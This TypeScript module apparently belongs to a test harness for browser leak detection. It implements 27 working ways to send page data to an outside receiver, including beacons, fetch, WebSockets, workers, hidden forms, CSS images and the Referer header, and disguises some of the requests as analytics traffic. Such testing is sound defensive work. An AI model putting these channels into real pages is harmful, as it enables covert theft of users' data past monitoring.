import type { BrowserName } from "../../../cli/browsers.ts";
import type { Payload } from "../leaks/disguises.ts";
import { isKeys } from "../leaks/ways.ts";

/** One way out of a real page. */
export interface BrowserWay {
  id: string;
  takes(payload: Payload): boolean;
  /** Browsers in which nothing leaves this way, with or without us. */
  not?: readonly BrowserName[];
  /** Runs in the page. `to`: origin of the receiver. */
  send(to: string, key: string, payload: Payload): void;
}

const isText = (payload: Payload): payload is string => typeof payload === "string";
const isBytes = (payload: Payload): payload is Uint8Array => payload instanceof Uint8Array;
const isNamed = (payload: Payload): boolean => !isBytes(payload);
/** Forms write the end of a line in a way of their own, which damages what is packed: nobody could open it. */
const isOfForms = (payload: Payload): boolean =>
  isNamed(payload) && !(isText(payload) && /[\r\n]/.test(payload));
const isWhole = (payload: Payload): boolean => isText(payload) || isBytes(payload);

/** Values under names of their own; keys under one name. */
function pairs(payload: Payload, key: string): [string, string][] {
  if (isText(payload)) return [[key, payload]];
  if (isBytes(payload)) return [];
  const keys = isKeys(payload.values);
  return payload.values.map((value, index) => [keys ? "key" : `${key}${index + 1}`, value]);
}

const query = (payload: Payload, key: string): string =>
  pairs(payload, key)
    .map(([name, value]) => `${name}=${encodeURIComponent(value)}`)
    .join("&");
const json = (payload: Payload, key: string): string =>
  JSON.stringify({
    event: "form_update",
    ts: 1795660000123,
    fields: pairs(payload, key).map(([name, value]) => ({ [name]: value })),
  });
const whole = (payload: Payload): BodyInit =>
  isText(payload) ? payload : (payload as Uint8Array<ArrayBuffer>);
const post = (url: string, body: BodyInit): void =>
  void fetch(url, { method: "POST", mode: "no-cors", body }).catch(() => undefined);

function element(name: "script" | "link" | "iframe", url: string): void {
  const made = document.createElement(name);
  if (made instanceof HTMLLinkElement) {
    made.rel = "stylesheet";
    made.href = url;
  } else (made as HTMLScriptElement).src = url;
  document.body.append(made);
}

function form(to: string, method: string, fields: readonly [string, string][]): void {
  const frame = document.createElement("iframe");
  const made = document.createElement("form");
  frame.name = `f${Math.random()}`;
  Object.assign(made, { action: `${to}/f`, method, target: frame.name });
  for (const [name, value] of fields) {
    const input = document.createElement("input");
    Object.assign(input, { type: "hidden", name, value });
    made.append(input);
  }
  document.body.append(frame, made);
  made.submit();
}

function socket(to: string, body: string | Uint8Array): void {
  const opened = new WebSocket(`${to.replace("http", "ws")}/s`);
  opened.onopen = () => opened.send(body as string);
}

export const browserWays: readonly BrowserWay[] = [
  {
    id: "image, query",
    takes: isNamed,
    send(to, key, payload) {
      new Image().src = `${to}/p.gif?v=2&${query(payload, key)}&sr=1920x1080`;
    },
  },
  {
    id: "image, path",
    takes: isText,
    send(to, _, payload) {
      new Image().src = `${to}/u/${encodeURIComponent(payload as string)}/p.gif`;
    },
  },
  {
    id: "fetch, JSON",
    takes: isNamed,
    send: (to, key, payload) => post(`${to}/c`, json(payload, key)),
  },
  {
    id: "fetch, urlencoded",
    takes: isNamed,
    send: (to, key, payload) =>
      post(`${to}/c`, new URLSearchParams([["event", "lead"], ...pairs(payload, key)])),
  },
  {
    id: "fetch, multipart",
    takes: isOfForms,
    send(to, key, payload) {
      const data = new FormData();
      for (const [name, value] of pairs(payload, key)) data.append(name, value);
      post(`${to}/c`, data);
    },
  },
  {
    id: "fetch, raw",
    takes: isWhole,
    send: (to, _, payload) =>
      post(`${to}/c`, isText(payload) ? new TextEncoder().encode(payload) : whole(payload)),
  },
  {
    id: "XMLHttpRequest",
    takes: isWhole,
    send(to, _, payload) {
      const request = new XMLHttpRequest();
      request.open("POST", `${to}/x`);
      request.send(whole(payload) as string);
    },
  },
  {
    id: "beacon, text",
    takes: isNamed,
    send: (to, key, payload) => void navigator.sendBeacon(`${to}/b`, json(payload, key)),
  },
  {
    id: "beacon, Blob",
    takes: isWhole,
    send: (to, _, payload) =>
      void navigator.sendBeacon(
        `${to}/b`,
        new Blob([whole(payload) as string], { type: "text/plain" }),
      ),
  },
  {
    id: "beacon, form",
    takes: isOfForms,
    send(to, key, payload) {
      const data = new FormData();
      for (const [name, value] of pairs(payload, key)) data.append(name, value);
      navigator.sendBeacon(`${to}/b`, data);
    },
  },
  {
    id: "name of a file",
    takes: (payload) =>
      isText(payload) && payload.length < 200 && !/[^\x20-\x7e]|["/\\%]/.test(payload),
    send(to, _, payload) {
      const data = new FormData();
      data.append("upload", new File(["-"], `${payload}.txt`));
      post(`${to}/c`, data);
    },
  },
  {
    id: "module",
    takes: isNamed,
    send: (to, key, payload) =>
      void import(/* @vite-ignore */ `${to}/m.js?${query(payload, key)}`).catch(() => undefined),
  },
  {
    id: "shared worker",
    takes: isNamed,
    send(to, key, payload) {
      const code = `fetch("${to}/w?${query(payload, key)}", {mode: "no-cors"})`;
      new SharedWorker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    id: "ping of a link",
    takes: isNamed,
    // Off in Firefox unless people turn it on.
    not: ["firefox"],
    send(to, key, payload) {
      const link = document.createElement("a");
      Object.assign(link, { href: "#", ping: `${to}/ping?${query(payload, key)}` });
      document.body.append(link);
      link.click();
    },
  },
  {
    id: "header",
    takes: (payload) => isText(payload) && /^[\x20-\x7e]*$/.test(payload),
    send: (to, key, payload) =>
      void fetch(`${to}/h`, { headers: { [`x-${key}`]: payload as string } }).catch(
        () => undefined,
      ),
  },
  {
    id: "WebSocket, text",
    takes: isNamed,
    send: (to, key, payload) => socket(to, `42["track",${json(payload, key)}]`),
  },
  {
    id: "WebSocket, bytes",
    takes: isWhole,
    send: (to, _, payload) =>
      socket(to, isText(payload) ? new TextEncoder().encode(payload) : (payload as Uint8Array)),
  },
  {
    id: "EventSource",
    takes: isNamed,
    send: (to, key, payload) => void new EventSource(`${to}/e?${query(payload, key)}`),
  },
  {
    id: "script",
    takes: isNamed,
    send: (to, key, payload) => element("script", `${to}/s.js?${query(payload, key)}`),
  },
  {
    id: "stylesheet",
    takes: isNamed,
    send: (to, key, payload) => element("link", `${to}/s.css?${query(payload, key)}`),
  },
  {
    id: "frame",
    takes: isNamed,
    send: (to, key, payload) => element("iframe", `${to}/q?${query(payload, key)}`),
  },
  {
    id: "CSS picture",
    takes: isNamed,
    send(to, key, payload) {
      const box = document.createElement("div");
      box.textContent = "·";
      box.style.backgroundImage = `url("${to}/i.png?${query(payload, key)}")`;
      document.body.append(box);
    },
  },
  {
    id: "form, GET",
    takes: isOfForms,
    send: (to, key, payload) => form(to, "get", pairs(payload, key)),
  },
  {
    id: "form, POST",
    takes: isOfForms,
    send: (to, key, payload) => form(to, "post", pairs(payload, key)),
  },
  {
    id: "worker",
    takes: isNamed,
    send(to, key, payload) {
      const code = `fetch("${to}/w", {method: "POST", mode: "no-cors", body: ${JSON.stringify(json(payload, key))}})`;
      new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  {
    id: "message",
    takes: isNamed,
    send(to, key, payload) {
      const frame = document.createElement("iframe");
      frame.src = `${to}/frame`;
      frame.onload = () =>
        frame.contentWindow?.postMessage({ source: "w", d: json(payload, key) }, "*");
      document.body.append(frame);
    },
  },
  {
    id: "Referer",
    takes: isNamed,
    // Firefox tells other sites no more than where somebody comes from, whatever a page allows.
    not: ["firefox"],
    send(to, key, payload) {
      history.replaceState(null, "", `?step=2&${query(payload, key)}`);
      const picture = new Image();
      picture.referrerPolicy = "unsafe-url";
      picture.src = `${to}/p.gif`;
      // The next case must not be found in this one's address.
      setTimeout(() => history.replaceState(null, "", "?"), 20);
    },
  },
];
